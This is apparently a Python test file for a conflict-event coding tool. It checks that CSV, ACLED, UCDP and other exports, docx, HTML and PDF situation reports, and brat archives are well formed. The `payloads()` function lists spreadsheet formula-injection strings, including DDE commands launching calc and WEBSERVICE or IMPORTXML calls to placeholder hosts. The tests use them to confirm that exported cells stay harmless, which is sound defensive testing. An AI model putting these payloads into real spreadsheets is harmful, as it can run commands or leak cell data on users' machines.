"""Exports and reports from outside: every file is opened by a program that people use for it."""

import csv
import io
import json
import pathlib
import re
import shutil
import sqlite3
import subprocess
import sys
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile

from program import NOTHING, OK, ROOT, USAGE, ProgramTest

sys.path.insert(0, str(ROOT / "bench"))
import invented  # noqa: E402

ROWS = ("acled", "ucdp", "cameo", "csv", "hxl")
FORMATS = ("jsonl", "plover", "geojson", "kml", "brat", *ROWS)
KML = "{http://www.opengis.net/kml/2.2}"
WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
PERIOD = ("--from", "2010-01-01", "--to", "2010-01-02")

needs_office = unittest.skipUnless(shutil.which("soffice"), "LibreOffice is not installed")
needs_pdf = unittest.skipUnless(
    shutil.which("weasyprint") or shutil.which("chromium"), "no program that makes PDFs"
)


def payloads():
    bodies = (
        "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example";"a")', "1+1", "10+20", "A1",
        "SUM(1;1)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"a")', 'WEBSERVICE("http://x")',
        'IMPORTXML(CONCAT("http://x/",A1))', "2+5+cmd|' /C calc'!A0",
    )
    return [start + body for start in ("=", "+", "-", "@", "\t=", "\r=") for body in bodies]


class ExportTest(ProgramTest):
    """A desk of invented reports that were coded already: no model is needed."""

    def setUp(self):
        super().setUp()
        self.desk = str(self.folder / "desk.tocsin")

    def tocsin(self, *arguments, status=OK, **options):
        result = self.run_program(*arguments, env={"TOCSIN_DESK": self.desk}, **options)
        self.assert_status(result, status)
        return result.stdout

    def fill(self, lines):
        self.write("reports.jsonl", "\n".join(lines) + "\n")
        self.tocsin("add", "--no-code", str(self.folder / "reports.jsonl"))
        self.tocsin("fuse")

    def invented(self, count=10):
        self.fill([invented.report(number, 6) for number in range(count)])

    def office(self, path, target):
        """The file as LibreOffice reads it, in another format."""
        profile = (self.folder / "office").as_uri()
        subprocess.run(
            ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", target,
             "--outdir", str(self.folder / "converted"), str(path)],
            check=True, capture_output=True, timeout=180,
        )
        extension = target.split(":")[0]
        return self.folder / "converted" / f"{pathlib.Path(path).stem}.{extension}"


class Exports(ExportTest):
    def test_every_format_writes_events_and_incidents(self):
        self.invented()
        for form in FORMATS:
            for kind in ((), ("--incidents",)):
                with self.subTest(form=form, kind=kind):
                    first = self.tocsin("export", form, *kind)
                    self.assertGreater(len(first), 100)
                    self.assertEqual(first, self.tocsin("export", form, *kind))

    def test_formats_of_all_happenings_hold_as_many_as_the_desk(self):
        self.invented()
        for kind in ((), ("--incidents",)):
            read = {
                form: self.tocsin("export", form, *kind).decode()
                for form in ("jsonl", "plover", "geojson", "kml", "csv", "hxl")
            }
            records = [json.loads(line) for line in read["jsonl"].splitlines()]
            count = len(records) if kind else sum(len(each["events"]) for each in records)
            self.assertGreater(count, 20)
            self.assertEqual(len(read["plover"].splitlines()), count)
            self.assertEqual(len(json.loads(read["geojson"])["features"]), count)
            self.assertEqual(len(ElementTree.fromstring(read["kml"]).findall(f".//{KML}Placemark")),
                             count)
            self.assertEqual(len(list(csv.DictReader(io.StringIO(read["csv"])))), count)
            self.assertEqual(len(list(csv.DictReader(io.StringIO(read["hxl"])))), count + 1)

    def test_rows_of_the_schemes_tell_only_of_what_has_their_codes(self):
        self.invented()
        acled = list(csv.DictReader(io.StringIO(self.tocsin("export", "acled").decode())))
        self.assertTrue(all(row["event_type"] and row["year"] == "2010" for row in acled))
        deadly = list(csv.DictReader(io.StringIO(self.tocsin("export", "ucdp").decode())))
        self.assertTrue(deadly)
        for row in deadly:
            self.assertGreater(int(row["best"]), 0)
            self.assertLessEqual(int(row["low"]), int(row["high"]))

    def test_words_stand_at_their_offsets_in_brat(self):
        self.invented(3)
        for kind in ((), ("--incidents",)):
            with zipfile.ZipFile(io.BytesIO(self.tocsin("export", "brat", *kind))) as archive:
                self.assertIsNone(archive.testzip())
                bounds = 0
                for name in archive.namelist():
                    if not name.endswith(".ann"):
                        continue
                    text = archive.read(name[:-4] + ".txt").decode()
                    for line in archive.read(name).decode().splitlines():
                        if line.startswith("T"):
                            begin, end = map(int, line.split("\t")[1].split()[1:])
                            self.assertEqual(text[begin:end], line.split("\t")[2])
                            bounds += 1
                self.assertGreater(bounds, 10)

    def test_records_with_their_text_are_taken_in_again(self):
        self.invented(3)
        lines = self.tocsin("export", "jsonl", "--text")
        texts = [json.loads(line)["text"] for line in lines.splitlines()]
        other = str(self.folder / "other.tocsin")
        result = self.run_program(
            "add", "--no-code", "--desk", other, self.write("again.jsonl", lines)
        )
        self.assert_status(result, OK)
        self.assertEqual(len(texts), 3)
        self.assertEqual([line.split(b"\t")[0] for line in result.stdout.splitlines()],
                         [b"added"] * 3)

    def test_data_frames_have_numbers_in_columns_of_numbers(self):
        try:
            import pandas
        except ImportError:
            self.skipTest("pandas is not installed")
        self.invented()
        for form in ("acled", "ucdp", "cameo", "csv"):
            for kind in ((), ("--incidents",)):
                frame = pandas.read_csv(io.BytesIO(self.tocsin("export", form, *kind)))
                self.assertGreater(len(frame), 5)
                self.assertEqual(str(frame["latitude"].dtype), "float64", form)
                self.assertEqual(str(frame["longitude"].dtype), "float64", form)


class Injection(ExportTest):
    def test_texts_that_were_made_harmless_are_read_back_as_they_were(self):
        starts = ("=", "+", "-", "@", "'=", "''=", "'", "' ", "\uff1d", "it's ")
        lines = []
        for number, start in enumerate(starts):
            line = json.loads(invented.report(number, 1))
            words = f"{start}1+{number}"
            line["tocsin_report"].update(source=words, title=words)
            begin = line["coding"]["events"][0]["sentence"][0]
            text = line["tocsin_report"]["text"]
            line["tocsin_report"]["text"] = text[:begin] + "=+-@"[number % 4] + text[begin + 1:]
            lines.append(json.dumps(line))
        self.fill(lines)
        table = self.tocsin("export", "csv")
        guarded = [row["notes"] for row in csv.DictReader(io.StringIO(table.decode()))]
        self.assertEqual([notes[:2] for notes in guarded], ["'" + "=+-@"[n % 4] for n in range(len(starts))])
        self.desk = str(self.folder / "again.tocsin")
        self.tocsin("add", "--no-code", "--map", "text=notes", self.write("own.csv", table))
        with sqlite3.connect(self.desk) as desk:
            read = desk.execute("SELECT source, title, text FROM report ORDER BY n").fetchall()
        desk.close()
        wanted = [f"{start}1+{number}" for number, start in enumerate(starts)]
        self.assertEqual([row[0] for row in read], wanted)
        self.assertEqual([row[1] for row in read], wanted)
        self.assertEqual([row[2] for row in read], [notes[1:] for notes in guarded])

    def fill_with_payloads(self):
        lines = []
        for number, payload in enumerate(payloads()):
            line = json.loads(invented.report(number, 2))
            line["tocsin_report"].update(source=payload, title=payload, url=payload)
            for event in line["coding"]["events"]:
                event["actor"][0]["name"] = event["recipient"][0]["name"] = payload
                place = event["location"]["place"]
                place.update(name=payload, admin1=payload, admin2=payload, id=payload, lon=-13.2)
            lines.append(json.dumps(line))
        self.fill(lines)

    @needs_office
    def test_no_spreadsheet_cell_is_a_formula_and_longitudes_stay_numbers(self):
        self.fill_with_payloads()
        for form in ROWS:
            for kind in ((), ("--incidents",)):
                with self.subTest(form=form, kind=kind):
                    path = self.write(f"{form}{len(kind)}.csv", self.tocsin("export", form, *kind))
                    sheet = self.office(path, "fods").read_text()
                    self.assertNotIn("table:formula", sheet)
                    self.assertIn('office:value="-13.2"', sheet)


class Sitrep(ExportTest):
    def sitrep(self, *arguments, **options):
        return self.tocsin("report", "sitrep", *PERIOD, *arguments, **options)

    def test_every_statement_of_the_page_has_its_citations(self):
        self.invented(60)
        for language in ("en", "ar"):
            page = self.sitrep("--format", "html", "--in", language).decode()
            body, sources = page[: page.rindex("<section>")], page[page.rindex("<section>") :]
            said = re.findall(r"<p>(.*?)</p>|<li>(.*?)</li>|<tr>(<td>.*?)</tr>", body)
            statements = ["".join(each) for each in said][3:]  # below the lines under the title
            self.assertGreater(len(statements), 50)
            for each in statements:
                for sentence in re.split(r"(?<=</span>) ", each):
                    self.assertIn('class="c"', sentence)
            used = set(re.findall(r'href="#(s\d+)"', body))
            listed = re.findall(r'<li id="(s\d+)">', sources)
            self.assertTrue(used <= set(listed))
            self.assertNotIn("<script", page)
            self.assertNotIn("src=", page)

    def test_the_same_desk_gives_the_same_report(self):
        self.invented(20)
        for form in ("md", "html", "docx"):
            self.assertEqual(self.sitrep("-f", form), self.sitrep("-f", form))

    def test_a_word_processors_file_is_well_formed(self):
        self.invented(20)
        path = self.folder / "report.docx"
        self.sitrep("-o", str(path))
        with zipfile.ZipFile(path) as archive:
            self.assertIsNone(archive.testzip())
            for name in archive.namelist():
                if name.endswith((".xml", ".rels")):
                    ElementTree.fromstring(archive.read(name))
            document = ElementTree.fromstring(archive.read("word/document.xml"))
            anchors = {a.get(f"{WORD}anchor") for a in document.iter(f"{WORD}hyperlink")}
            marks = {m.get(f"{WORD}name") for m in document.iter(f"{WORD}bookmarkStart")}
            self.assertTrue(anchors)
            self.assertLessEqual(anchors, marks)

    @needs_office
    def test_a_word_processor_opens_it(self):
        self.invented(20)
        path = self.folder / "report.docx"
        self.sitrep("-o", str(path))
        text = self.office(path, "txt:Text").read_text()
        self.assertIn("Situation report", text)
        self.assertIn("Incidents by place", text)

    @needs_pdf
    def test_a_pdf_is_made(self):
        self.invented(20)
        for language in ("en", "ar"):
            path = self.folder / f"{language}.pdf"
            self.sitrep("-o", str(path), "--in", language)
            self.assertEqual(path.read_bytes()[:5], b"%PDF-")

    def test_without_a_program_for_it_a_pdf_is_refused_with_what_to_install(self):
        self.invented(5)
        result = self.run_program(
            "report", "sitrep", *PERIOD, "-o", str(self.folder / "a.pdf"),
            env={"TOCSIN_DESK": self.desk, "PATH": str(self.folder)},
        )
        self.assertEqual(result.returncode, 1)
        self.assert_one_fault(result, "weasyprint", "chromium")

    def test_a_period_without_incidents_says_so(self):
        self.invented(5)
        out = self.tocsin("report", "sitrep", "--from", "1999-01-01", "--to", "1999-01-07",
                          status=NOTHING)
        self.assertIn(b"holds no incident", out)

    def test_a_period_must_be_given_whole(self):
        self.invented(5)
        self.tocsin("report", "sitrep", "--from", "2020-01-01", status=USAGE)
        self.tocsin("report", "sitrep", "--from", "2020-01-02", "--to", "2020-01-01", status=USAGE)
        self.tocsin("report", "sitrep", *PERIOD, "-f", "pdf", status=USAGE)


if __name__ == "__main__":
    unittest.main()
